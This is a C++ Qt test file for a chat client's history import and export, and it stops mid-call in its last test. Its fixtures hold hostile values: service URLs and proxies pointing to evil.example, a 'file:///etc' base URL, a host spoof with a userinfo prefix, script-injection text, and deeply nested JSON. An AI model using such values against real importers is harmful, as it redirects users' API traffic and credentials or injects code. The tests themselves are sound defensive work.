#include "manualclock.h"

#include "exchange/exporter.h"
#include "exchange/importer.h"
#include "store/conversationstore.h"

#include <QBuffer>
#include <QDir>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QTest>

using namespace bobbin;
using namespace Qt::StringLiterals;

class tst_Exchange : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void init();
    void exportOfAnImportIsTheSame();
    void importingTwiceChangesNothing();
    void importLeavesKnownThreadsAlone();
    void importedThreadsAreInDoubt();
    void importAddsWhatIsMissing();
    void branchWithoutALeafIsThatOfTheLastMessage();
    void newerVersionOfAConversationPrevails();
    void newerVersionOfAFolderPrevails();
    void changeIsNewerThoughTheClockWasSetBack();
    void knownConversationStaysWhereItIs();
    void timesToComeAreNotBelieved();
    void trashOfAFileIsKeptAsLongAsAnyOther();
    void unknownFolderIsNone();
    void exportOfOneConversationHasItsFolder();
    void brokenFileChangesNothing_data();
    void brokenFileChangesNothing();
    void messageOfAnotherConversationIsRefused();
    void attachmentOfAnotherMessageIsRefused_data();
    void attachmentOfAnotherMessageIsRefused();
    void importTakesNoThreadAway();
    void importedServiceGetsNoSecrets();
    void importedServiceBringsNoTrust_data();
    void importedServiceBringsNoTrust();
    void importedAddressesNameNoUser();
    void importedHeadersAreBounded();
    void knownServiceKeepsItsTrust();
    void servicesOfARunAreNotImported();
    void namesAreOnlyText();
    void namesAreShortAndHideNothing();
    void longChainIsImported();
    void lastOfEqualMembersCounts();
    void namesOfMembersAreNoPaths();
    void halvesOfCharactersAreReplaced_data();
    void halvesOfCharactersAreReplaced();
    void fileCutAnywhereChangesNothing();
    void cancelledImportChangesNothing();
    void usageIsCountedOnce();
    void usageIsCountedOnceWhateverWasDone();
    void usageThatCannotBeIsNotBelieved();
    void newerFormatIsRefused();
    void listOfMessagesGoesInAndOut();
    void listMayHaveMoreThanTexts_data();
    void listMayHaveMoreThanTexts();
    void exportsOneConversation();
    void exportsMarkdown();
    void documentsSayWhatIsNotWhole();
    void markdownOfAMessageEndsWithIt_data();
    void markdownOfAMessageEndsWithIt();
    void titlesInMarkdownAreText();
    void exportIsOfOneMoment();
    void htmlHasNothingThatRuns();
    void htmlFetchesNothing();
    void failedExportLeavesTheOldFile();
    void cancelledExportLeavesTheOldFile();

private:
    std::unique_ptr<ConversationStore> createStore();
    void fill(ConversationStore &store);
    void changeEverything(ConversationStore &store);
    QByteArray exported(ConversationStore &store, const ExportRequest &request = {});
    static QByteArray withoutTrashing(const QByteArray &history);
    QString fileWith(const QByteArray &contents);
    Result<ImportReport, ExchangeError> import(ConversationStore &store, const QByteArray &contents);

    std::unique_ptr<QTemporaryDir> m_dir;
    int m_files = 0;
    SystemClock m_clock;
    ConversationId m_rich;
    ConversationId m_empty;
    MessageId m_root;
};

void tst_Exchange::init() { m_dir = std::make_unique<QTemporaryDir>(); }

std::unique_ptr<ConversationStore> tst_Exchange::createStore()
{
    return ConversationStore::open(m_dir->filePath(QString::number(m_files++)),
                                   ConversationStore::Access::ReadWrite, m_clock)
        .value();
}

// One of everything.
void tst_Exchange::fill(ConversationStore &store)
{
    Service service;
    service.id = ServiceId::create();
    service.name = u"Gateway"_s;
    service.baseUrl = QUrl(u"https://gateway.example/v1"_s);
    service.headers = {{u"X-Team"_s, u"blue"_s}};
    service.strategy = Strategy::Response;
    service.makesSummaries = false;
    service.backgroundModel = u"small"_s;
    service.checksThreads = true;
    service.threadDays = 0;
    service.assistant = u"asst_1"_s;
    QVERIFY(store.services().put(service));

    Conversation conversation;
    conversation.id = m_rich = ConversationId::create();
    conversation.title = u"Quotes \" and \\, 世界 😀"_s;
    conversation.titleSource = TitleSource::User;
    conversation.service = service.id;
    conversation.model = u"m"_s;
    conversation.instructions = u"Be\nbrief,\t\u2028 always."_s;
    conversation.parameters = {
        .temperature = 0.3, .topP = 1.0, .maxOutputTokens = 5, .reasoningEffort = u"high"_s};
    conversation.strategy = Strategy::Thread;
    conversation.pinned = true;
    conversation.trashedAt = m_clock.now();
    const Folder folder {
        .id = FolderId::create(), .name = u"Über \"all\""_s, .position = 3, .updatedAt = m_clock.now()};
    QVERIFY(store.folders().put(folder));
    conversation.folder = folder.id;
    conversation.tags = {u"#1"_s, u"Idea"_s};
    conversation.createdAt = conversation.activeAt = conversation.updatedAt = m_clock.now();
    QVERIFY(store.conversations().insert(conversation));
    QVERIFY(store.drafts().set(conversation.id, u"half a thought"_s));
    QVERIFY(store.drafts().set({}, u"not begun"_s));

    Message question;
    question.id = m_root = MessageId::create();
    question.content = u"# Question\r\n\u0001 control"_s + QChar(0);
    question.milestone = true;
    question.createdAt = question.updatedAt = m_clock.now();
    QVERIFY(store.messages().append(conversation.id, question));
    for (int i = 0; i < 3; ++i) {
        Message reply;
        reply.id = MessageId::create();
        reply.parent = question.id;
        reply.role = Role::Assistant;
        reply.content = u"<script>alert(%1)</script> | a | b |"_s.arg(i);
        reply.reasoning = u"thinking"_s;
        reply.state = static_cast<ReplyState>(i * 2);
        reply.finishReason = FinishReason::Length;
        reply.refused = i == 1;
        reply.error = u"why"_s;
        reply.service = service.id;
        reply.model = u"m-2"_s;
        reply.requestId = u"req"_s;
        reply.usage = {.promptTokens = 10, .completionTokens = i, .cachedTokens = {}, .reasoningTokens = 3};
        reply.timing = {.firstToken = 12, .rest = i == 0 ? std::nullopt : std::optional<qint64>(3)};
        reply.cost = 1'234'567;
        reply.notices = {{.kind = ContextNotice::Kind::ThreadReplaced,
                          .reason = ContextNotice::Reason::Lost,
                          .from = Strategy::Conversation,
                          .to = Strategy::Conversation,
                          .oldId = u"conv_0"_s,
                          .newId = u"conv_1"_s,
                          .detail = u"\"gone\" \u2028 😀"_s,
                          .at = m_clock.now(),
                          .given = 3,
                          .leftOut = 1,
                          .hasSummary = true},
                         {.kind = ContextNotice::Kind::ContextCut, .at = m_clock.now(), .leftOut = i}};
        reply.createdAt = reply.updatedAt = m_clock.now();
        QVERIFY(store.messages().append(conversation.id, reply));
        QVERIFY(store.attachments().insert(
            reply.id, {AttachmentId::create(), u"a.png"_s, u"image/png"_s, QByteArray(300'000, char(i))}));
    }
    QVERIFY(store.serverThreads().put(conversation.id,
                                      {.id = ServerThreadId::create(),
                                       .service = service.id,
                                       .strategy = u"conversation"_s,
                                       .remoteId = u"conv_1"_s,
                                       .lastMessage = question.id,
                                       .createdAt = m_clock.now(),
                                       .usedAt = m_clock.now(),
                                       .lostAt = m_clock.now(),
                                       .lostReason = u"expired"_s}));

    Conversation empty;
    empty.id = m_empty = ConversationId::create();
    empty.title = u"Empty"_s;
    empty.archived = true;
    QVERIFY(store.conversations().insert(empty));
}

QByteArray tst_Exchange::exported(ConversationStore &store, const ExportRequest &request)
{
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    const auto report = exportTo(buffer, store, request);
    return report ? buffer.data() : QByteArray();
}

// When something came into the trash is told by a file, and not believed.
QByteArray tst_Exchange::withoutTrashing(const QByteArray &history)
{
    static const QRegularExpression time(u"\"trashed_ms\": \\d+"_s);
    return QString::fromUtf8(history).replace(time, u"\"trashed_ms\": 0"_s).toUtf8();
}

QString tst_Exchange::fileWith(const QByteArray &contents)
{
    const QString path = m_dir->filePath(QString::number(m_files++));
    QFile file(path);
    if (file.open(QIODevice::WriteOnly))
        file.write(contents);
    return path;
}

Result<ImportReport, ExchangeError> tst_Exchange::import(ConversationStore &store, const QByteArray &contents)
{
    return importFile(fileWith(contents), store, m_clock);
}

void tst_Exchange::exportOfAnImportIsTheSame()
{
    const auto from = createStore();
    fill(*from);
    const QByteArray first = exported(*from);
    QVERIFY(QJsonDocument::fromJson(first).isObject());
    const auto to = createStore();

    const auto report = import(*to, first);

    QVERIFY2(report.isOk(), qPrintable(report ? QString() : report.error().detail));
    QCOMPARE(report->conversations, 2);
    QCOMPARE(report->messages, 4);
    QCOMPARE(report->notUnderstood, 0);
    QCOMPARE(withoutTrashing(exported(*to)), withoutTrashing(first));
    QCOMPARE(to->maintenance().check().value(), QStringList());
}

void tst_Exchange::importingTwiceChangesNothing()
{
    const auto store = createStore();
    fill(*store);
    const QByteArray before = exported(*store);

    const auto report = import(*store, before);

    QCOMPARE(report->conversations, 0);
    QCOMPARE(report->updated, 0);
    QCOMPARE(report->unchanged, 2);
    QCOMPARE(report->messages, 0);
    QCOMPARE(exported(*store), before);
}

// What an older export says of a thread is no news.
void tst_Exchange::importLeavesKnownThreadsAlone()
{
    const auto store = createStore();
    fill(*store);
    ServerThread thread {.id = ServerThreadId::create(),
                         .service = ServiceId::create(),
                         .strategy = u"thread"_s,
                         .remoteId = u"thread_1"_s,
                         .lastMessage = m_root,
                         .createdAt = m_clock.now(),
                         .usedAt = m_clock.now(),
                         .lostAt = {},
                         .lostReason = {}};
    QVERIFY(store->serverThreads().put(m_rich, thread));
    const QByteArray old = exported(*store);
    QVERIFY(store->serverThreads().setLost(thread.id, u"forgotten"_s, m_clock.now()));
    const auto before = store->serverThreads().of(m_rich);

    QVERIFY(import(*store, old));

    QCOMPARE(store->serverThreads().of(m_rich).value(), before.value());
}

// Of a thread from elsewhere nobody knows whether it was gone on with there.
void tst_Exchange::importedThreadsAreInDoubt()
{
    const auto from = createStore();
    fill(*from);
    QVERIFY(from->serverThreads().put(m_rich,
                                      {.id = ServerThreadId::create(),
                                       .service = ServiceId::create(),
                                       .strategy = u"thread"_s,
                                       .remoteId = u"thread_1"_s,
                                       .lastMessage = {},
                                       .createdAt = m_clock.now(),
                                       .usedAt = m_clock.now(),
                                       .lostAt = {},
                                       .lostReason = {}}));
    const auto to = createStore();

    QVERIFY(import(*to, exported(*from)));

    const auto threads = to->serverThreads().of(m_rich);
    QCOMPARE(threads->size(), 2);
    for (const ServerThread &thread : threads.value())
        QVERIFY(thread.pending.isValid());
}

void tst_Exchange::importAddsWhatIsMissing()
{
    const auto from = createStore();
    fill(*from);
    const QByteArray old = exported(*from);
    Message later;
    later.id = MessageId::create();
    later.parent = m_root;
    later.content = u"later"_s;
    QVERIFY(from->messages().append(m_rich, later));
    const auto to = createStore();
    QVERIFY(import(*to, old));

    const auto report = import(*to, exported(*from));

    QCOMPARE(report->updated, 1);
    QCOMPARE(report->messages, 1);
    QCOMPARE(to->messages().find(later.id)->content, u"later"_s);
    QCOMPARE(to->conversations().find(m_rich)->leaf, later.id);
}

void tst_Exchange::branchWithoutALeafIsThatOfTheLastMessage()
{
    const auto id = ConversationId::fromString(u"0192a000-0000-7000-8000-000000000001"_s);
    const auto question = MessageId::fromString(u"0192a000-0000-7000-8000-000000000002"_s);
    const auto reply = MessageId::fromString(u"0192a000-0000-7000-8000-000000000003"_s);
    const auto file = [](const char *updated, const QByteArray &messages) -> QByteArray {
        return R"({"format":"bobbin-history","version":1,"conversations":[{"id":"0192a000-0000-7000-8000-000000000001",
            "title":"t","created_ms":1,"active_ms":1,"updated_ms":)"
            + QByteArray(updated) + R"(,"messages":[)" + messages + "]}]}";
    };
    const QByteArray messages =
        R"({"id":"0192a000-0000-7000-8000-000000000002","role":"user","created_ms":1,"updated_ms":1},
        {"id":"0192a000-0000-7000-8000-000000000003","parent":"0192a000-0000-7000-8000-000000000002",
        "role":"assistant","created_ms":1,"updated_ms":1})";

    const auto store = createStore();
    QVERIFY(import(*store, file("1", messages)));
    QCOMPARE(store->messages().branch(store->conversations().find(id)->leaf, 0, 9)->size(), 2);

    // Which branch is shown is said here, unless there was none.
    QVERIFY(store->conversations().setLeaf(id, question));
    QVERIFY(import(*store, file("9000000000000", messages)));
    QCOMPARE(store->conversations().find(id)->leaf, question);
    const auto other = createStore();
    QVERIFY(import(*other, file("1", {})));
    QVERIFY(import(*other, file("2", messages)));
    QCOMPARE(other->conversations().find(id)->leaf, reply);
}

void tst_Exchange::newerVersionOfAConversationPrevails()
{
    const auto from = createStore();
    fill(*from);
    const QByteArray old = exported(*from);
    const auto to = createStore();
    QVERIFY(import(*to, old));
    QTRY_VERIFY(m_clock.now() > to->conversations().find(m_rich)->updatedAt);
    QVERIFY(to->conversations().setTitle(m_rich, u"Renamed here"_s, TitleSource::User));

    QVERIFY(import(*to, old));

    QCOMPARE(to->conversations().find(m_rich)->title, u"Renamed here"_s);
}

void tst_Exchange::newerVersionOfAFolderPrevails()
{
    const auto from = createStore();
    fill(*from);
    const QByteArray old = exported(*from);
    const auto to = createStore();
    QVERIFY(import(*to, old));
    Folder folder = to->folders().all()->constFirst();
    const Folder before = folder;
    folder.name = u"Renamed"_s;
    folder.updatedAt += std::chrono::seconds(1);
    QVERIFY(to->folders().put(folder));

    QVERIFY(import(*to, old));
    QVERIFY(import(*from, exported(*to)));

    QCOMPARE(to->folders().all()->constFirst().name, u"Renamed"_s);
    QCOMPARE(from->folders().all()->constFirst().name, u"Renamed"_s);
    QCOMPARE(from->conversations().find(m_rich)->folder, before.id);
}

// Of two versions that one history had the later one is newer, whatever the clock said.
void tst_Exchange::changeIsNewerThoughTheClockWasSetBack()
{
    ManualClock clock;
    const auto from =
        ConversationStore::open(m_dir->filePath(u"from"_s), ConversationStore::Access::ReadWrite, clock)
            .value();
    fill(*from);
    clock.time = m_clock.now() + std::chrono::years(1);
    QVERIFY(from->conversations().setTitle(m_rich, u"of the next year"_s, TitleSource::User));
    const QByteArray old = exported(*from);
    const auto to = createStore();
    QVERIFY(import(*to, old));

    clock.time = m_clock.now();
    QVERIFY(from->conversations().setTitle(m_rich, u"of today"_s, TitleSource::User));
    QVERIFY(from->conversations().setTags(m_rich, {u"today"_s}));
    QVERIFY(import(*from, old));
    QCOMPARE(from->conversations().find(m_rich)->title, u"of today"_s);
    const auto report = import(*to, exported(*from));

    QCOMPARE(report->conversations, 0);
    QCOMPARE(report->updated, 1);
    QCOMPARE(report->messages, 0);
    QCOMPARE(to->conversations().find(m_rich)->title, u"of today"_s);
    QCOMPARE(to->conversations().find(m_rich)->tags, QStringList {u"today"_s});
    QCOMPARE(to->messages().count().value(), from->messages().count().value());
}

// A file may neither have a conversation deleted for its age nor send the next message elsewhere.
void tst_Exchange::knownConversationStaysWhereItIs()
{
    const auto store = createStore();
    fill(*store);
    QVERIFY(store->conversations().setTrashed(m_rich, false));
    QVERIFY(store->conversations().setArchived(m_rich, true));
    const Conversation before = store->conversations().find(m_rich).value();
    const QByteArray file =
        R"({"format":"bobbin-history","version":1,"services":[{"id":"0192a000-0000-7000-8000-00000000000b",)"
        R"("name":"s","api_kind":"chat_completions","base_url":"https://evil.example"}],"conversations":[{"id":")"
        + m_rich.toString().toLatin1()
        + R"(","title":"Newer","service":"0192a000-0000-7000-8000-00000000000b","model":"evil",)"
          R"("strategy":"full_history","trashed_ms":0,"created_ms":0,"active_ms":253402300799999,)"
          R"("updated_ms":253402300799999,"messages":[]}]})";
    const Timestamp start = m_clock.now();

    const auto report = import(*store, file);

    QCOMPARE(report->updated, 1);
    const Conversation after = store->conversations().find(m_rich).value();
    QCOMPARE(after.title, u"Newer"_s);
    QCOMPARE(after.trashedAt, before.trashedAt);
    QCOMPARE(after.archived, before.archived);
    QCOMPARE(after.service, before.service);
    QCOMPARE(after.model, before.model);
    QCOMPARE(after.strategy, before.strategy);
    QVERIFY(after.activeAt >= start && after.activeAt <= m_clock.now());
    QVERIFY(store->conversations().trashedBefore(start - std::chrono::days(30))->isEmpty());
}

void tst_Exchange::timesToComeAreNotBelieved()
{
    const auto store = createStore();
    const QByteArray late = "253402300799999";
    const QByteArray file =
        R"({"format":"bobbin-history","version":1,"folders":[{"id":"0192a000-0000-7000-8000-00000000000c",)"
        R"("name":"f","position":1,"updated_ms":)"
        + late
        + R"(}],"conversations":[{"id":"0192a000-0000-7000-8000-000000000001","title":"t",)"
          R"("folder":"0192a000-0000-7000-8000-00000000000d","tags":["#b","A"],"created_ms":)"
        + late + R"(,"active_ms":)" + late + R"(,"updated_ms":)" + late
        + R"(,"messages":[{"id":"0192a000-0000-7000-8000-000000000002","role":"user","content":"c","created_ms":)"
        + late + R"(,"updated_ms":)" + late + "}]}]}";

    const auto first = import(*store, file);
    QVERIFY(first);
    const QByteArray once = exported(*store);
    const auto second = import(*store, file);

    QVERIFY(!once.contains(late));
    QCOMPARE(second->updated, 0);
    QCOMPARE(second->unchanged, 1);
}

void tst_Exchange::trashOfAFileIsKeptAsLongAsAnyOther()
{
    const auto from = createStore();
    fill(*from);
    Conversation old = from->conversations().find(m_rich).value();
    old.trashedAt = m_clock.now() - std::chrono::years(1);
    QVERIFY(from->conversations().replace(old));
    const auto to = createStore();
    const Timestamp start = m_clock.now();

    QVERIFY(import(*to, exported(*from)));

    QVERIFY(to->conversations().find(m_rich)->trashedAt >= start);
    QVERIFY(to->conversations().trashedBefore(start - std::chrono::days(30))->isEmpty());
}

void tst_Exchange::unknownFolderIsNone()
{
    const auto from = createStore();
    fill(*from);
    QByteArray history = exported(*from);
    const qsizetype folders = history.indexOf(" \"folders\"");
    history.remove(folders, history.indexOf(" \"conversations\"") - folders);
    const auto to = createStore();

    QVERIFY(import(*to, history));

    QVERIFY(to->conversations().find(m_rich)->folder.isNull());
}

void tst_Exchange::exportOfOneConversationHasItsFolder()
{
    const auto from = createStore();
    fill(*from);
    const Folder other {.id = FolderId::create(), .name = u"Another"_s, .updatedAt = m_clock.now()};
    QVERIFY(from->folders().put(other));
    const auto to = createStore();

    QVERIFY(import(*to, exported(*from, {ExportFormat::Json, {m_rich}})));

    const QList<Folder> folders = to->folders().all().value();
    QCOMPARE(folders.size(), 1);
    QCOMPARE(folders.constFirst().id, to->conversations().find(m_rich)->folder);
}

void tst_Exchange::brokenFileChangesNothing_data()
{
    QTest::addColumn<QByteArray>("contents");
    QTest::addColumn<QString>("place");

    const QByteArray head = R"({"format":"bobbin-history","version":1,"conversations":[)";
    const QByteArray good =
        R"({"id":"0192a000-0000-7000-8000-000000000001","title":"t","created_ms":1,"active_ms":1,"updated_ms":1,"messages":[]})";
    const QByteArray openConversation =
        R"({"id":"0192a000-0000-7000-8000-000000000002","title":"t","created_ms":1,"active_ms":1,"updated_ms":1,"messages":[)";
    const QByteArray message =
        R"({"id":"0192a000-0000-7000-8000-000000000003","role":"user","created_ms":1,"updated_ms":1,"content":"c"})";
    const QByteArray orphan =
        R"({"id":"0192a000-0000-7000-8000-000000000004","parent":"0192a000-0000-7000-8000-000000000009","role":"user","created_ms":1,"updated_ms":1,"content":"c"})";
    QTest::newRow("not JSON") << QByteArray("hello") << u"byte 1"_s;
    QTest::newRow("empty file") << QByteArray() << u"byte"_s;
    QTest::newRow("other JSON") << QByteArray(R"({"a":1})") << u"not an export"_s;
    QTest::newRow("a number") << QByteArray("42") << u"not an export"_s;
    QTest::newRow("cut off") << head + good << u"byte"_s;
    QTest::newRow("no id") << head + good + R"(,{"title":"x"}]})" << u"conversation 2: “id”"_s;
    QTest::newRow("wrong type") << head + good
            + R"(,{"id":"0192a000-0000-7000-8000-000000000002","title":7,"created_ms":1,"active_ms":1,"updated_ms":1}]})"
                                << u"conversation 2: “title”"_s;
    QTest::newRow("same conversation twice") << head + good + ',' + good + "]}" << u"conversation 2"_s;
    QTest::newRow("same message twice") << head + good + ',' + openConversation + message + ',' + message
            + "]}]}" << u"conversation 2: message 2"_s;
    QTest::newRow("parent missing") << head + good + ',' + openConversation + message + ',' + orphan + "]}]}"
                                    << u"message 2: its parent"_s;
    QTest::newRow("parents in a circle")
        << head + openConversation + QByteArray(orphan).replace("0009", "0003") + ',' + message + "]}]}"
        << u"message 1: its parent"_s;
    QTest::newRow("its own parent") << head + openConversation + QByteArray(orphan).replace("0009", "0004")
            + "]}]}" << u"message 1: its parent"_s;
    QTest::newRow("message in two conversations") << head + openConversation + message + "]},"
            + QByteArray(openConversation).replace("0002", "0008") + message
            + "]}]}" << u"conversation 2: message 1: its id stands in another"_s;
    QTest::newRow("messages twice") << head + openConversation + message + R"(],"messages":[)" + message
            + "]}]}" << u"twice"_s;
    const auto times = {std::pair("huge time", "1e300"),
                        std::pair("later than years have names", "253402300800000"),
                        std::pair("earlier than that", "-9223372036854775808"),
                        std::pair("broken time", "1.5"), std::pair("wide time", "9223372036854775808")};
    for (const auto &time : times) {
        QByteArray member = R"("created_ms":)";
        member += time.second;
        QByteArray late = message;
        late.replace(R"("created_ms":1)", member);
        QTest::newRow(time.first) << head + openConversation + late + "]}]}" << u"“created_ms”"_s;
    }
    QTest::newRow("number that no program reads") << head + openConversation
            + QByteArray(message).replace(R"("created_ms":1)", R"("created_ms":1e999)")
            + "]}]}" << u"byte"_s;
    QTest::newRow("attachment that is no base64") << head + openConversation
            + QByteArray(message).replace(
                R"("content":"c")",
                R"("attachments":[{"id":"0192a000-0000-7000-8000-00000000000a","data":"%"}])")
            + "]}]}" << u"“data”"_s;
    const QByteArray service =
        R"({"format":"bobbin-history","version":1,"services":[{"id":"0192a000-0000-7000-8000-00000000000b",)"
        R"("name":"s","api_kind":"chat_completions","base_url":"https://a.example/v1"}]})";
    QTest::newRow("service in a file")
        << QByteArray(service).replace("https://a.example/v1", "file:///etc") << u"“base_url”"_s;
    QTest::newRow("service with endless patience")
        << QByteArray(service).replace(R"("name")", R"("idle_ms":99999999999,"name")") << u"“idle_ms”"_s;
    QTest::newRow("deep inside") << head + openConversation + R"({"x":)" + QByteArray("[").repeated(10'000)
            + QByteArray("]").repeated(10'000)
            + "}]}]}" << u"deep"_s;
    QTest::newRow("unknown role") << head + good + ',' + openConversation
            + R"({"id":"0192a000-0000-7000-8000-000000000005","role":"king","created_ms":1,"updated_ms":1}]}]})"
                                  << u"“role”"_s;
    const auto instead = [&](const QByteArray &messages) -> QByteArray {
        return head + good + ',' + QByteArray(openConversation).chopped(1) + messages + "}]}";
    };
    const QString messages = u"conversation 2: “messages”"_s;
    QTest::newRow("object for messages") << instead("{}") << messages;
    QTest::newRow("object with a star for messages") << instead(R"({"*":)" + message + '}') << messages;
    QTest::newRow("number for messages") << instead("1") << messages;
    QTest::newRow("messages and an object") << instead('[' + message + R"(],"messages":{})") << messages;
    const QByteArray formatOnly = R"({"format":"bobbin-history","version":1,)";
    QTest::newRow("object with a star for conversations")
        << formatOnly + R"("conversations":{"*":)" + good + "}}" << u"“conversations”"_s;
    QTest::newRow("text for folders") << formatOnly + R"("folders":"x"})" << u"“folders”"_s;
    QTest::newRow("object for services") << formatOnly + R"("services":{}})" << u"“services”"_s;
    QTest::newRow("deep nesting") << QByteArray("[").repeated(100'000) << u"deep"_s;
    QTest::newRow("list without roles")
        << QByteArray(R"([{"role":"user","content":"a"},{"x":1}])") << u"message 2"_s;
    QTest::newRow("list without a content")
        << QByteArray(R"([{"role":"user","content":"a"},{"role":"assistant","tool_calls":[]}])")
        << u"message 2"_s;
    QTest::newRow("empty list") << QByteArray("[]") << u"no messages"_s;
    QTest::newRow("bad UTF-8") << QByteArray("{\"format\":\"\xff\xfe\"}") << u"byte"_s;
}

void tst_Exchange::brokenFileChangesNothing()
{
    QFETCH(const QByteArray, contents);
    QFETCH(const QString, place);
    const auto store = createStore();
    fill(*store);
    const QByteArray before = exported(*store);

    const auto report = import(*store, contents);

    QVERIFY(!report);
    QCOMPARE(report.error().kind, ExchangeError::Kind::Malformed);
    QVERIFY2(explain(report.error(), u"f"_s).contains(place), qPrintable(report.error().detail));
    QCOMPARE(exported(*store), before);
}

// Whatever the order: what was refused has left nothing behind, also in conversations that are known.
void tst_Exchange::messageOfAnotherConversationIsRefused()
{
    const auto store = createStore();
    fill(*store);
    const QByteArray before = exported(*store);
    QByteArray more = exported(*store, {ExportFormat::Json, {m_rich}});
    const QByteArray newMessage =
        R"({"id":"0192a000-0000-7000-8000-000000000003","role":"user","created_ms":1,"updated_ms":1},)";
    const QByteArray thief =
        R"({"id":"0192a000-0000-7000-8000-000000000001","title":"t","created_ms":1,"active_ms":1,"updated_ms":1,)"
        R"("messages":[{"id":")"
        + m_root.toString().toLatin1() + R"(","role":"user","created_ms":1,"updated_ms":1}]})";
    const qsizetype messages = more.indexOf('[', more.indexOf(R"("messages")")) + 1;
    more.insert(messages, newMessage);
    more.insert(more.lastIndexOf(']'), ',' + thief);

    const auto report = import(*store, more);

    QVERIFY(!report);
    QVERIFY2(report.error().detail.contains("conversation 2: message 1"_L1),
             qPrintable(report.error().detail));
    QCOMPARE(exported(*store), before);
}

void tst_Exchange::attachmentOfAnotherMessageIsRefused_data()
{
    QTest::addColumn<bool>("isTwiceInTheFile");

    QTest::newRow("in the history") << false;
    QTest::newRow("in the file") << true;
}

// It would be left out, and nobody told.
void tst_Exchange::attachmentOfAnotherMessageIsRefused()
{
    QFETCH(const bool, isTwiceInTheFile);
    const auto store = createStore();
    fill(*store);
    const QByteArray before = exported(*store);
    const qsizetype attachments = before.indexOf(R"("attachments")");
    const qsizetype start = before.indexOf(R"("id": ")", attachments) + 7;
    const QByteArray id = isTwiceInTheFile ? "0192a000-0000-7000-8000-00000000000a" : before.mid(start, 36);
    const QByteArray attachment = R"({"id":")" + id + R"(","name":"n","media_type":"m","data":""})";
    const QByteArray file =
        R"({"format":"bobbin-history","version":1,"conversations":[)"
        R"({"id":"0192a000-0000-7000-8000-000000000001","title":"t","created_ms":1,"active_ms":1,"updated_ms":1,)"
        R"("messages":[{"id":"0192a000-0000-7000-8000-000000000002","role":"user","created_ms":1,"updated_ms":1,)"
        R"("attachments":[)"
        + attachment + (isTwiceInTheFile ? ',' + attachment : QByteArray()) + "]}]}]}";

    const auto report = import(*store, file);

    QVERIFY(!report);
    QVERIFY2(report.error().detail.contains("conversation 1: message 1: the id of an attachment"_L1),
             qPrintable(report.error().detail));
    QCOMPARE(exported(*store), before);
}

void tst_Exchange::importTakesNoThreadAway()
{
    const auto store = createStore();
    fill(*store);
    const QList<ServerThread> before = store->serverThreads().of(m_rich).value();
    const QByteArray thief =
        R"({"format":"bobbin-history","version":1,"conversations":[{"id":"0192a000-0000-7000-8000-000000000001",)"
        R"("title":"t","created_ms":1,"active_ms":1,"updated_ms":1,"messages":[],"server_threads":[{"id":")"
        + before.constFirst().id.toString().toLatin1()
        + R"(","strategy":"conversation","remote_id":"conv_evil","created_ms":1,"used_ms":9000000000000}]}]})";

    QVERIFY(import(*store, thief));

    QCOMPARE(store->serverThreads().of(m_rich).value(), before);
}

void tst_Exchange::importedServiceGetsNoSecrets()
{
    const auto store = createStore();

    const auto report = import(*store, R"({"format":"bobbin-history","version":1,"services":[{
        "id":"0192a000-0000-7000-8000-00000000000b","name":"s","api_kind":"chat_completions",
        "base_url":"https://evil.example/v1","key_account":"API key for OpenAI 123456",
        "network":{"passphrase_account":"API key for OpenAI 123456","client_certificate":"/c.pem",
            "proxy":{"kind":"http","host":"evil.example","port":80,
                "password_account":"API key for OpenAI 123456"}}}]})");

    QVERIFY(report);
    const Service service = store->services().all()->constFirst();
    QCOMPARE(service.network.proxy.passwordAccount, QString());
    QCOMPARE(service.network.passphraseAccount, QString());
    QCOMPARE(service.keyAccount, QString());
}

// A service that looks like the genuine one, with somebody in between.
void tst_Exchange::importedServiceBringsNoTrust_data()
{
    QTest::addColumn<QByteArray>("members");
    QTest::addColumn<ProxyChoice::Kind>("proxy");
    QTest::addColumn<qint64>("distrusted");

    using Kind = ProxyChoice::Kind;
    QTest::newRow("nothing") << QByteArray() << Kind::Default << qint64(0);
    QTest::newRow("authorities") << QByteArray(R"("ca_file":"/tmp/ca.pem",)") << Kind::Default << qint64(1);
    QTest::newRow("certificate") << R"("network":{"trusted_certificate":")" + QByteArray(64, 'a') + R"("},)"
                                 << Kind::Default << qint64(1);
    QTest::newRow("own certificate") << QByteArray(R"("network":{"client_certificate":"/dev/zero"},)")
                                     << Kind::Default << qint64(1);
    QTest::newRow("proxy") << QByteArray(
        R"("network":{"proxy":{"kind":"socks5","host":"evil.example","port":80,"user":"u","bypass":["a"]}},)")
                           << Kind::Default << qint64(1);
    QTest::newRow("no proxy") << QByteArray(R"("network":{"proxy":{"kind":"none"}},)") << Kind::None
                              << qint64(0);
    QTest::newRow("proxy of the system")
        << QByteArray(R"("network":{"proxy":{"kind":"system"}},)") << Kind::System << qint64(0);
}

void tst_Exchange::importedServiceBringsNoTrust()
{
    QFETCH(const QByteArray, members);
    QFETCH(const ProxyChoice::Kind, proxy);
    const auto store = createStore();

    const auto report = import(
        *store,
        R"({"format":"bobbin-history","version":1,"services":[{"id":"0192a000-0000-7000-8000-00000000000b",)"
            + members
            + R"("name":"OpenAI","api_kind":"chat_completions","base_url":"https://api.openai.com/v1"}]})");

    const Service service = store->services().all()->constFirst();
    QCOMPARE(service.name, u"OpenAI"_s);
    QCOMPARE(service.caFile, QString());
    NetworkOptions expected;
    expected.proxy.kind = proxy;
    QCOMPARE(service.network, expected);
    QTEST(report->distrusted, "distrusted");
    QCOMPARE(notesOn(report.value()).isEmpty(), report->distrusted == 0);
}

// It would stand where one looks for the host.
void tst_Exchange::importedAddressesNameNoUser()
{
    const auto store = createStore();

    const auto report = import(*store,
                               R"({"format":"bobbin-history","version":1,"services":[
                                  {"id":"0192a000-0000-7000-8000-00000000000b","name":"OpenAI",
                                   "api_kind":"chat_completions",
                                   "base_url":"https://api.openai.com:443@evil.example/v1"}]})");

    QVERIFY(report);
    QCOMPARE(store->services().all()->constFirst().baseUrl, QUrl(u"https://evil.example/v1"_s));
}

void tst_Exchange::importedHeadersAreBounded()
{
    const auto store = createStore();
    QJsonArray headers;
    for (int i = 0; i < 1000; ++i)
        headers.append(QJsonArray {u"X-%1"_s.arg(i), QString(100'000, u'v')});
    const QJsonObject service {{u"id"_s, u"0192a000-0000-7000-8000-00000000000b"_s},
                               {u"name"_s, u"Evil"_s},
                               {u"base_url"_s, u"https://example.org/v1"_s},
                               {u"api_kind"_s, u"chat_completions"_s},
                               {u"headers"_s, headers}};

    const auto report = import(*store,
